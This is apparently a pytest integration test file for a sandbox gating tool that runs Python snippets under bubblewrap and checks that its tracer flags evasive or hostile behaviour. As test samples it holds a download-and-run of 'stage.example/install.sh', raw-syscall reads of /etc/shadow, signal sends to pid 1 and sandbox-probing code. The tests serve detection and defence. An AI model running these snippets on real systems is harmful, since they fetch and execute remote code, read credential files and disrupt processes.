"""Ways to act unseen that no other test makes: waiting, late stages, stop games, foreign descriptors, many files.

The table of all ids of the threat list (EV, TR) and their tests: docs/threat-model.md.
"""

# ruff: noqa: E501  # programs

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path

import pytest

from gate.model.behaviour import BehaviourKind
from gate.model.change import Change
from gate.model.finding import Finding
from gate.model.run import Outcome, Probe, RunRecord, SandboxSpec
from gate.sandbox.backends.bubblewrap.backend import BubblewrapBackend
from gate.signals.interface import SignalContext
from gate.signals.run import signals
from gate.tracing.behaviour.reduction import behaviours
from gate.tracing.codec import read_trace
from gate.tracing.diff import compare
from gate.tracing.events import Event, Exec, Open, Signal
from tests.contract.trees import DictTree
from tests.integration.launching import why_no_bwrap

pytestmark = pytest.mark.skipif(bool(why_no_bwrap()), reason=why_no_bwrap() or "bubblewrap works")


class Ran:
    """One program: its record, events, behaviours and findings."""

    def __init__(self, code: str, spec: SandboxSpec, deadline: float) -> None:
        tree = DictTree(files={"a.py": code})
        probe = Probe(
            id="a",
            phase="import",
            target="a",
            path="a.py",
            argv=("python3", "a.py"),
            deadline=deadline,
            driver=False,
        )
        self.events: list[Event] = []
        with BubblewrapBackend().open(spec, tree, tree) as session:
            self.record: RunRecord = session.run(probe, "head")
            if self.record.trace is not None:
                read_trace(self.record.trace, self.events.append)
            self.behaviours = behaviours(self.record)
            diff = compare([self.record])
            change = Change(repo="", base=None, head=None, merge_base=None, commits=(), files=())
            self.findings: tuple[Finding, ...] = signals(
                SignalContext(change=change, diff=diff, runs=(self.record,))
            )

    @property
    def rules(self) -> set[str]:
        """Ids of the rules that told something."""
        return {finding.rule_id for finding in self.findings}


def run(code: str, *, network: str = "none", deadline: float = 30.0, **limits: int) -> Ran:
    """In the bubblewrap sandbox."""
    spec = SandboxSpec(network="sinkhole" if network == "sinkhole" else "none")
    return Ran(code, replace(spec, limits=replace(spec.limits, **limits)), deadline)


WAITING = {
    "sleep": "import time; time.sleep(3600)",
    "busy": "while True: pass",
    "select": "import select; select.select([], [], [], 3600)",
    "timer": "import threading; threading.Timer(3600, print).start()",
    "alarm-cancelled": "import signal, time\nsignal.alarm(0)\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\ntime.sleep(3600)",
    "signals-blocked": "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\ntime.sleep(3600)",
    "stopped": "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)",
}


def test_whoever_waits_is_ended_by_the_host_and_told() -> None:
    """EV-1: the clock is outside; a limit that was hit is a finding and no clean look."""
    with ThreadPoolExecutor(2) as pool:
        done = dict(
            zip(WAITING, pool.map(lambda code: run(code, deadline=1.5), WAITING.values()), strict=True)
        )
    assert {name: ran.record.outcome for name, ran in done.items()} == dict.fromkeys(
        WAITING, Outcome.TIMED_OUT
    )
    assert all("timeout" in ran.rules for ran in done.values())
    assert all(ran.record.seconds < 6 for ran in done.values())


STAGES = """
import os, subprocess, urllib.request
body = urllib.request.urlopen("http://stage.example/install.sh", timeout=10).read()
open("/tmp/stage.sh", "wb").write(body); os.chmod("/tmp/stage.sh", 0o755)
subprocess.run(["sh", "/tmp/stage.sh"], timeout=10)
"""


def test_a_second_stage_shows_itself_because_somebody_answers() -> None:
    """EV-6: without an answer only the attempt would be seen."""
    ran = run(STAGES, network="sinkhole")
    assert ran.record.outcome is Outcome.COMPLETED, ran.record.stderr
    assert any(b.kind is BehaviourKind.HTTP and b.detail["host"] == "stage.example" for b in ran.behaviours)
    assert {"new-outbound-connection", "download-and-execute", "name-lookup"} <= ran.rules
    assert "observation-evasion" not in ran.rules


PROBES = {
    "tracer": "open('/proc/self/status').read()",
    "container": "import os; os.path.exists('/.dockerenv')",
    "cgroup": "open('/proc/1/cgroup').read()",
    "uptime": "open('/proc/uptime').read()",
    "hardware": "open('/proc/cpuinfo').read()",
    "traceme": "import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)",
}


def test_questions_about_the_sandbox_are_told_as_such() -> None:
    """EV-3, EV-2 (uptime): asked, with whatever answer."""
    code = "\n".join(f"try:\n    {text}\nexcept OSError:\n    pass" for text in PROBES.values())
    ran = run(code)
    asked = {b.subject for b in ran.behaviours if b.kind is BehaviourKind.PROBE}
    assert len(asked) >= len(PROBES) - 1, asked
    assert "sandbox-probe" in ran.rules


HOOKS = """
import ctypes, gc, sys
def blind(event, arguments):
    if event == "nothing": raise RuntimeError("nobody audits here")
sys.addaudithook(blind)
sys.settrace(None); sys.setprofile(None)
libc = ctypes.CDLL(None)
fd = libc.syscall(2, b"/etc/shadow", 0)          # past every hook of Python's
pid = libc.syscall(57)
if pid == 0:
    libc.execve(b"/bin/true", (ctypes.c_char_p * 2)(b"true", None), None)
    libc._exit(0)
libc.waitpid(pid, 0, 0)
"""


def test_hooks_of_python_are_no_part_of_what_is_seen() -> None:
    """TR-7: raw calls, and hooks of the code's own."""
    ran = run(HOOKS)
    assert any(isinstance(e, Open) and e.path == "/etc/shadow" and e.call == "open" for e in ran.events)
    assert any(isinstance(e, Exec) and e.path.endswith("/true") for e in ran.events)
    assert "credential-file-read" in ran.rules


GAMES = """
import os, signal, socket
for fd in range(3, 300):
    for word in (b"E", b"C", b"done\\n", b'{"ev":"summary"}\\n'):
        try: os.write(fd, word)
        except OSError: pass
os.closerange(3, 4096)
for pid in (1, os.getppid()):
    for number in (signal.SIGSTOP, signal.SIGCONT, signal.SIGTSTP, signal.SIGKILL):
        try: os.kill(pid, number)
        except OSError: pass
child = os.fork()
if child == 0:
    os.kill(os.getpid(), signal.SIGSTOP)
    open("/etc/group").close()
    os._exit(0)
os.waitpid(child, os.WUNTRACED); os.kill(child, signal.SIGCONT); os.waitpid(child, 0)
open("/etc/passwd").close()
print("still here", flush=True)
"""


def test_stop_games_and_foreign_descriptors_change_nothing() -> None:
    """TR-9, TR-10: what the code writes to any descriptor it finds, and signals to whoever is near."""
    ran = run(GAMES)
    assert ran.record.fault is None
    assert ran.record.completeness.whole
    assert ran.record.stdout == b"still here\n"
    assert {"/etc/group", "/etc/passwd"} <= {e.path for e in ran.events if isinstance(e, Open)}
    assert any(isinstance(e, Signal) and e.scope == "init" for e in ran.events)
    assert "observation-tampering" in ran.rules


def test_the_trace_is_nowhere_inside(tmp_path: Path) -> None:
    """TR-10: neither the trace nor its socket can be opened, listed or removed from inside."""
    code = """
import os
seen = []
for top, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(top, f) not in ("/proc", "/sys", "/usr")]
    seen += [os.path.join(top, f) for f in files]
print([p for p in seen if p.endswith((".jsonl", ".sock", ".strace"))])
print(os.listdir("/proc/self/fd"))
"""
    ran = run(code)
    listed, descriptors = ran.record.stdout.decode().splitlines()
    assert listed == "[]"
    assert set(eval(descriptors)) <= {"0", "1", "2", "3"}  # a list of our own program's
    assert not list(tmp_path.iterdir())


MANY = """
import os
os.makedirs("/tmp/many")
for n in range(30_000):
    os.close(os.open(f"/tmp/many/{n}", os.O_CREAT | os.O_WRONLY))
try: open("/etc/shadow")
except OSError: pass
print("through", flush=True)
"""


@pytest.mark.slow
def test_masses_of_files_cost_no_other_line_and_the_look_is_not_whole() -> None:
    """TR-8: bounded in lines; what is read after the flood is still told."""
    ran = run(MANY, deadline=60, trace_events=20_000)
    assert ran.record.stdout == b"through\n", ran.record.stderr
    assert ran.record.completeness.dropped > 20_000
    assert any(isinstance(e, Open) and e.path == "/etc/shadow" for e in ran.events)
    assert len(ran.events) < 10_000
    assert "credential-file-read" in ran.rules


def test_nothing_of_one_run_is_left_for_the_next() -> None:
    """EV-2, EV-8: a counter in a file cannot count runs, and nothing is remembered of an identical run."""
    code = """
import os, pathlib
counter = [pathlib.Path(p, ".seen") for p in ("/tmp", "/work", "/work/home", "/work/tree", "/dev/shm")]
print([c.exists() for c in counter])
for c in counter:
    try: c.write_text("1")
    except OSError: pass
"""
    tree = DictTree(files={"a.py": code})
    probe = Probe(
        id="a", phase="script", target="a", path="a.py", argv=("python3", "a.py"), deadline=20, driver=False
    )
    with BubblewrapBackend().open(SandboxSpec(), tree, tree) as session:
        said = [session.run(probe, "head", repeat=n).stdout for n in range(3)]
    assert said == [b"[False, False, False, False, False]\n"] * 3
